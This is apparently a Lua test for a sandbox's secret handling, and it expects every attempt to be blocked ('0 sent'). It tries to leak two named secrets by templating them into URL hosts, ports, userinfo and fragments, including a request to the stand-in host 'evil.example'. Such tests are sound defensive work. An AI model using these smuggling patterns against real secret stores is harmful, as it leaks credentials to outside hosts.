-- idea: the value itself is made a part of the host, to learn from name lookups and refusals what it is
-- oracle: same
-- out: 0 sent
recipe{ name = "attack", secrets = { "TOKEN", "EIGHT" }, hosts = { "127.0.0.1:9", "api.example.com" } }
local sent = 0
for _, name in ipairs{ "TOKEN", "EIGHT" } do
  local t = getSecret(name)
  for _, text in ipairs{ "https://${t}/", "http://127.0.0.1:9${t}/", "http://127.0.0.1:9@${t}/",
    "https://api.example.com${t}", "https://api.example.com:${t}", "${t}", "https:${t}", "https://api.example.com\\${t}",
    "https://api.example.com#${t}", "https://evil.example/${t}" } do
    local ok, e = pcall(http.request, { url = secret.template(text, { t = t }) })
    if ok or (e.kind ~= "usage" and e.kind ~= "denied") then sent = sent + 1 print(text, ok, e) end
  end
  local ok, e = pcall(http.request, { url = t })
  if ok or e.kind ~= "denied" then print(ok, e) end
end
print(sent .. " sent")
